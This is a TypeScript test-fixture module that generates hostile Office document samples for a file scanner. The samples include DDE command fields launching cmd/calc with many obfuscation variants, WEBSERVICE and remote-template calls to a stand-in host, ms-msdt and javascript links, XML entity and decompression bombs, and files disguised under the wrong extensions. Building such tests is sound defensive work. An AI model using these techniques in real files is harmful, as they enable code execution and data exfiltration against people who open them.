import { aCompound, aDoc, anXls, type ExcelRecord } from "@causeway/server/testing/files/compounds.ts";
import {
  aDocx,
  aField,
  aXlsx,
  relation,
  relations,
  type Parts,
} from "@causeway/server/testing/files/office.ts";
import { aPdf } from "@causeway/server/testing/files/pdfs.ts";
import { aZip } from "@causeway/server/testing/files/zips.ts";
import { mark, sample, type Sample } from "./sample.ts";

const docx = (about: string, body?: string, parts?: Parts, main?: string) =>
  sample(`a .docx ${about}`, "a.docx", aDocx(body, parts, main));
const xlsx = (about: string, rows?: string, parts?: Parts, main?: string) =>
  sample(`a .xlsx ${about}`, "a.xlsx", aXlsx(rows, parts, main));
const cell = (formula: string) => `<row r="1"><c r="A1"><f>${formula}</f><v>1</v></c></row>`;
const utf16 = (text: string) => Buffer.from(text, "utf16le");

export function hostileOffice(): Sample[] {
  return [...wordXml(), ...fields(), ...excelXml(), ...broken(), ...word97(), ...excel97()];
}

function wordXml(): Sample[] {
  const related = (about: string, row: string) =>
    docx(about, undefined, { "word/_rels/document.xml.rels": relations(row) });
  const settings = (row: string) => ({
    "word/_rels/settings.xml.rels": relations(row),
    "word/settings.xml": "<w:settings/>",
  });
  return [
    docx("with macros", undefined, { "word/vbaProject.bin": mark }),
    docx("with macros elsewhere", undefined, { "docProps/vbaProject.BIN": mark }),
    docx("that says it has macros", undefined, {}, "application/vnd.ms-word.document.macroEnabled.main+xml"),
    docx(
      "that is a template with macros",
      undefined,
      {},
      "application/vnd.ms-word.template.macroEnabledTemplate.main+xml",
    ),
    docx(
      "with a template from the web",
      undefined,
      settings(relation("r1", "attachedTemplate", "http://x.example/t.dotm", true)),
    ),
    docx(
      "with a template from a share",
      undefined,
      settings(relation("r1", "attachedTemplate", "\\\\x\\t.dotm", true)),
    ),
    docx(
      "with a template from the web that does not say so",
      undefined,
      settings(relation("r1", "attachedTemplate", "https://x.example/t.dotm")),
    ),
    related("with a picture from the web", relation("r1", "image", "http://x.example/p.png", true)),
    related("with a picture from a share", relation("r1", "image", "file://x/p.png", true)),
    related(
      "with an object from the web",
      relation("r1", "oleObject", "mhtml:http://x.example!x-usc:http://x.example", true),
    ),
    related("with a frame from the web", relation("r1", "frame", "http://x.example/f.html", true)),
    related("with a part of another document", relation("r1", "subDocument", "file:///c:/a.docx", true)),
    related("with a page inside", relation("r1", "aFChunk", "a.mht")),
    related("with a link to a share", relation("r1", "hyperlink", "\\\\x\\a", true)),
    related("with a link to a program", relation("r1", "hyperlink", "ms-msdt:/id", true)),
    related("with a link to a file", relation("r1", "hyperlink", "file:///c:/a.exe", true)),
    related("with a link that runs", relation("r1", "hyperlink", "javascript:alert(1)", true)),
    docx("with an object inside", undefined, { "word/embeddings/oleObject1.bin": mark }),
    docx("with a workbook inside", undefined, { "word/embeddings/Book.xlsx": mark }),
    docx("with a control", undefined, { "word/activeX/activeX1.xml": "<ax/>" }),
    docx("with buttons of its own", undefined, { "customUI/customUI14.xml": "<customUI/>" }),
    docx("with an add-in", undefined, { "word/webextensions/taskpanes.xml": "<a/>" }),
    docx("with toolbars", undefined, { "word/attachedToolbars.bin": mark }),
    docx("with a page as a chunk", '<w:altChunk r:id="r1"/>'),
    docx("with an object by tag", '<w:p><w:r><w:object><o:OLEObject Type="Link"/></w:object></w:r></w:p>'),
    docx("with a control by tag", "<w:p><w:control/></w:p>"),
    related(
      "with a picture from the web behind an attribute that hides it",
      '<Relationship Id="a Type=\'x/hyperlink\' Target=\'https://example.com\'" Type="x/image" Target="http://x.example/p.png" TargetMode="External"/>',
    ),
    docx("with another file inside", undefined, { "word/media/a.exe": mark }),
    docx("with a web page inside", undefined, { "word/a.html": mark }),
  ];
}

function fields(): Sample[] {
  const ddeauto = "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot;";
  return [
    docx("that asks a program", aField(` ${ddeauto} `)),
    docx("that asks a program, in pieces", aField(" D", "DE", "AU", "TO cmd")),
    docx("that asks a program, in single letters", aField(..."DDEAUTO cmd".split(""))),
    docx("that asks a program, in numbers", aField("&#68;&#x44;&#69; cmd")),
    docx("that asks a program, as plain text", aField("<![CDATA[DDEAUTO cmd]]>")),
    docx("that asks a program, in small letters", aField("ddeauto cmd")),
    docx("that asks a program, in quotes", aField("&quot;DDE&quot; cmd")),
    docx("that asks a program, with a comment inside", aField("DD<!-- x -->E cmd")),
    docx("that asks a program in a simple field", `<w:p><w:fldSimple w:instr="${ddeauto}"/></w:p>`),
    docx(
      "that asks a program in a simple field, in numbers",
      '<w:p><w:fldSimple w:instr="&#68;DE cmd"/></w:p>',
    ),
    docx("that asks a program out of numbers", aField("QUOTE 68 68 69 65 85 84 79")),
    docx("that asks a program in its head", undefined, {
      "word/header1.xml": `<w:hdr>${aField("DDE cmd")}</w:hdr>`,
    }),
    docx("that asks a program in its notes", undefined, {
      "word/footnotes.xml": `<w:f>${aField("DDE cmd")}</w:f>`,
    }),
    docx("that fetches a picture", aField("INCLUDEPICTURE http://x.example/p.png")),
    docx("that asks a program around a tag", aField("DD<w:x/>E cmd")),
    docx("that leads to a share", aField('HYPERLINK "\\\\\\\\x\\\\a"')),
    docx("that fetches a text", aField("INCLUDETEXT \\\\x\\a.docx")),
    docx("that is linked to another", aField("LINK Excel.Sheet \\\\x\\a.xlsx")),
    docx("with a button for a macro", aField("MACROBUTTON AutoOpen press")),
  ];
}

function excelXml(): Sample[] {
  const link = "xl/externalLinks/externalLink1.xml";
  return [
    xlsx("with macros", undefined, { "xl/vbaProject.bin": mark }),
    xlsx("that says it has macros", undefined, {}, "application/vnd.ms-excel.sheet.macroEnabled.main+xml"),
    xlsx("that is an add-in", undefined, {}, "application/vnd.ms-excel.addin.macroEnabled.main+xml"),
    xlsx("in binary", undefined, {}, "application/vnd.ms-excel.sheet.binary.macroEnabled.main"),
    xlsx("with a sheet of macros", undefined, { "xl/macrosheets/sheet1.xml": "<xm/>" }),
    xlsx("with a macro that opens", undefined, {
      "xl/names.xml": '<d><definedName name="_xlnm.Auto_Open">1</definedName></d>',
    }),
    xlsx("linked to another", undefined, { [link]: "<externalLink/>" }),
    xlsx("that asks a program", undefined, {
      [link]: '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
    }),
    xlsx("that asks a program elsewhere", undefined, {
      "xl/other.xml": '<a><ddeLink ddeService="cmd"/></a>',
    }),
    xlsx("with a sheet that has no ending", undefined, { "xl/sheet2.dat": cell("CALL(A1)") }),
    xlsx("with a relation to macros under another name", undefined, {
      "xl/theme/theme2.xml": "<a/>",
      "xl/theme/_rels/theme1.xml.rels": relations(relation("r1", "xlMacrosheet", "theme2.xml")),
    }),
    xlsx("linked to an object", undefined, { "xl/other.xml": '<a><oleLink progId="x"/></a>' }),
    xlsx("with a formula that asks a program", cell("cmd|'/c calc'!A0")),
    xlsx("with a formula that asks a program, in numbers", cell("cmd&#124;'/c calc'!A0")),
    xlsx("with a formula that asks the network", cell("WEBSERVICE(&quot;http://x.example&quot;)")),
    xlsx("with a formula that calls", cell("CALL(&quot;kernel32&quot;)")),
    xlsx("with a formula that registers", cell("REGISTER (&quot;a&quot;)")),
    ...hiddenFormulas(),
    xlsx("with data from elsewhere", undefined, { "xl/connections.xml": "<connections/>" }),
    xlsx("with a question to a database", undefined, { "xl/queryTables/queryTable1.xml": "<q/>" }),
    xlsx("with an object inside", undefined, { "xl/embeddings/oleObject1.bin": mark }),
    xlsx("with a picture from the web", undefined, {
      "xl/drawings/_rels/drawing1.xml.rels": relations(
        relation("r1", "image", "https://x.example/p.png", true),
      ),
    }),
  ];
}

/** Formulas that act, cut into pieces, hidden behind quotes or kept elsewhere than in a cell. */
function hiddenFormulas(): Sample[] {
  const web = "WEBSERVICE(&quot;http://x.example&quot;)";
  const dde = "cmd|'/c calc'!A0";
  const elsewhere = (about: string, xml: string) =>
    xlsx(about, undefined, { "xl/other.xml": `<a>${xml}</a>` });
  return [
    xlsx(
      "with a comment inside a function's name",
      cell("WEB<!-- x -->SERVICE(&quot;http://x.example&quot;)"),
    ),
    xlsx(
      "with an instruction inside a function's name",
      cell("WEB<?x?>SERVICE(&quot;http://x.example&quot;)"),
    ),
    xlsx("with a tag inside a function's name", cell("WEB<x/>SERVICE(&quot;http://x.example&quot;)")),
    xlsx(
      "with a tag around half of a function's name",
      cell("WEB<x>SER</x>VICE(&quot;http://x.example&quot;)"),
    ),
    xlsx("with a function as plain text", cell("<![CDATA[WEBSERVICE]]>(A1)")),
    xlsx("with a function of a later Excel", cell("_xlfn.WEBSERVICE(A1)")),
    xlsx("with a picture by formula", cell("_xlfn.IMAGE(&quot;https://x.example/p.png&quot;)")),
    xlsx("with a function of an add-in", cell("_xll.SUM(A1)")),
    xlsx("with a stock's price", cell("_xlfn.STOCKHISTORY(A1,B1)")),
    xlsx("with a cube of elsewhere", cell("CUBEVALUE(A1,B1)")),
    xlsx("with a program in another language", cell("_xlfn._xlws.PY(0,1)")),
    xlsx("with an address out of cells", cell("HYPERLINK(A1&amp;B1)")),
    xlsx("with a function that nobody knows", cell("SUM(A1)+MYSTERY(A1)")),
    xlsx("with a function behind a quote in a sheet's name", cell("'a&quot;b'!A1+WEBSERVICE(&quot;x&quot;)")),
    xlsx(
      "with a function behind an apostrophe in a text",
      cell("&quot;it's&quot;&amp;WEBSERVICE(A1)&amp;&quot;'&quot;"),
    ),
    xlsx("with a function that is handed to another", cell("MAP(A1:A3,_xleta.WEBSERVICE)")),
    xlsx("with a function between names of columns", cell("T[it's]&amp;WEBSERVICE(A1)&amp;T[it's]")),
    xlsx("with a function behind a text without an end", cell("&quot;a&amp;WEBSERVICE(A1)")),
    xlsx("that asks a program with its name in quotes", cell("'cmd'|'/c calc'!A0")),
    elsewhere("with a name that asks the network", `<definedName name="a">${web}</definedName>`),
    elsewhere("with a name that asks a program", `<definedName name="a">${dde}</definedName>`),
    elsewhere("with a macro that opens, in numbers", '<definedName name="Auto&#95;Open">1</definedName>'),
    elsewhere("with a rule of formats that asks", `<cfRule><formula>${web}</formula></cfRule>`),
    elsewhere(
      "with a rule of entry that asks",
      `<dataValidation><formula1>${web}</formula1></dataValidation>`,
    ),
    elsewhere(
      "with another rule of entry that asks",
      `<dataValidation><formula2>${dde}</formula2></dataValidation>`,
    ),
    elsewhere("with a rule of a later Excel that asks", `<x14:formula1><xm:f>${web}</xm:f></x14:formula1>`),
    elsewhere("with a column that asks", `<calculatedColumnFormula>${web}</calculatedColumnFormula>`),
    elsewhere("with a sum that asks", `<totalsRowFormula>${web}</totalsRowFormula>`),
    elsewhere("with a field that asks", `<cacheField formula="${web}"/>`),
    elsewhere("with a shape that asks", `<sp textlink="${dde}"/>`),
    elsewhere("with a colour that asks", `<cfvo type="formula" val="${web}"/>`),
    elsewhere("with a chart that asks", `<c:f>${web}</c:f>`),
  ];
}

function broken(): Sample[] {
  const bytes = aXlsx();
  return [
    docx("with entities", undefined, { "word/styles.xml": `<!DOCTYPE a [<!ENTITY x "${mark}">]><a>&x;</a>` }),
    docx("with laughter", undefined, {
      "word/styles.xml":
        '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><l>&b;</l>',
    }),
    docx("in another encoding", undefined, { "word/styles.xml": utf16("\uFEFF<a/>") }),
    docx("in an encoding that hides brackets", undefined, {
      "word/styles.xml": '<?xml version="1.0" encoding="UTF-7"?><a/>',
    }),
    docx("with a tag without an end", undefined, { "word/styles.xml": `<a ${"x".repeat(600_000)}` }),
    docx("that ends inside a tag", undefined, { "word/styles.xml": "<a><b" }),
    xlsx("that unpacks to 200 MB", undefined, {
      "xl/worksheets/sheet2.xml": Buffer.alloc(200 * 1024 * 1024, " "),
    }),
    xlsx("that unpacks a hundredfold", undefined, {
      "xl/worksheets/sheet2.xml": Buffer.alloc(20 * 1024 * 1024, "<a/>"),
    }),
    sample("a .xlsx as .docx", "a.docx", bytes),
    sample("a .docx as .xlsx", "a.xlsx", aDocx()),
    sample("an archive as .docx", "a.docx", aZip([{ name: "a.pdf", data: aPdf() }])),
    sample("a PDF as .docx", "a.docx", aPdf()),
    sample("a .doc as .docx", "a.docx", aDoc()),
    sample("a .docx as .doc", "a.doc", aDocx()),
    sample(
      "an encrypted .docx",
      "a.docx",
      aCompound([
        { name: "EncryptedPackage", data: Buffer.alloc(64) },
        { name: "EncryptionInfo", data: Buffer.alloc(64) },
      ]),
    ),
    sample("an encrypted .xlsx", "a.xlsx", aCompound([{ name: "EncryptedPackage", data: Buffer.alloc(64) }])),
    sample("a .docx with a program behind it", "a.docx", Buffer.concat([aDocx(), Buffer.from(`MZ${mark}`)])),
    ...[0.3, 0.6, 0.9].map((share) =>
      sample(
        `a .xlsx cut at ${share * 100} %`,
        "a.xlsx",
        bytes.subarray(0, Math.floor(bytes.length * share)),
      ),
    ),
  ];
}

function word97(): Sample[] {
  const doc = (about: string, options: Parameters<typeof aDoc>[0]) =>
    sample(`a .doc ${about}`, "a.doc", aDoc(options));
  const storage = (name: string) => ({ parts: [{ name }] });
  return [
    ...["Macros", "VBA", "_VBA_PROJECT", "ObjectPool", "Package"].map((name) =>
      doc(`with ${name}`, storage(name)),
    ),
    doc("with a file inside", { parts: [{ name: "\u0001Ole10Native", data: Buffer.from(mark) }] }),
    doc("that is encrypted", { flags: 0x0100 }),
    doc("that asks a program", { text: Buffer.from("\u0013 DDEAUTO cmd \u0015", "latin1") }),
    doc("that asks a program, in two bytes", { text: utf16("\u0013 DDE cmd \u0015") }),
    doc("that asks a program, in two bytes at an odd place", {
      text: Buffer.concat([Buffer.from("x"), utf16("\u0013DDEAUTO cmd \u0015")]),
    }),
    doc("that fetches a picture", { text: utf16("\u0013 INCLUDEPICTURE http://x.example \u0015") }),
    doc("with a template from the web", { template: "http://x.example/t.dot" }),
    doc("with a template from a share", { template: "\\\\x\\t.dot" }),
    doc("that leads in circles", { loop: true }),
    sample("an .xls as .doc", "a.doc", anXls()),
    sample("RTF as .doc", "a.doc", `{\\rtf1{\\object\\objdata ${mark}}}`),
    sample("a web page as .doc", "a.doc", `<html><script>${mark}</script></html>`),
    sample("a .doc cut short", "a.doc", aDoc().subarray(0, 2000)),
    sample("a .doc of its first bytes", "a.doc", aDoc().subarray(0, 512)),
  ];
}

function excel97(): Sample[] {
  const xls = (about: string, records: ExcelRecord[] = [], storage?: string, kind?: number) =>
    sample(
      `an .xls ${about}`,
      "a.xls",
      anXls(records, storage === undefined ? [] : [{ name: storage }], kind),
    );
  const book = (name: string) =>
    Buffer.concat([Buffer.from([1, 0, name.length, 0, 0]), Buffer.from(name, "latin1")]);
  return [
    xls("that is encrypted", [[0x2f, Buffer.alloc(6)]]),
    xls("with macros", [[0xd3, Buffer.alloc(0)]]),
    xls("with a sheet of macros", [[0x809, Buffer.from([0, 6, 0x40, 0])]]),
    xls("with a hidden sheet of macros", [], undefined, 1),
    xls("with a module", [], undefined, 6),
    xls("with a question to a file", [[0x805, Buffer.alloc(57)]]),
    xls("with a link to an object", [], "LNK00000001"),
    sample("an .xls with two workbooks", "a.xls", anXls([], [{ name: "WORKBOOK", data: Buffer.from(mark) }])),
    xls("linked to another", [[0x1ae, book("\\\\x\\a.xls")]]),
    xls("that asks a program", [[0x1ae, book("cmd\u0003/c calc")]]),
    ...["_VBA_PROJECT_CUR", "VBA", "MBD0001A2B3", "Macros"].map((name) => xls(`with ${name}`, [], name)),
    sample("a .doc as .xls", "a.xls", aDoc()),
    sample("a web page as .xls", "a.xls", "<table><tr><td>1</td></tr></table>"),
    sample("a list as .xls", "a.xls", "=cmd|'/c calc'!A0,2\n"),
    sample("an .xls cut short", "a.xls", anXls().subarray(0, 1800)),
  ];
}
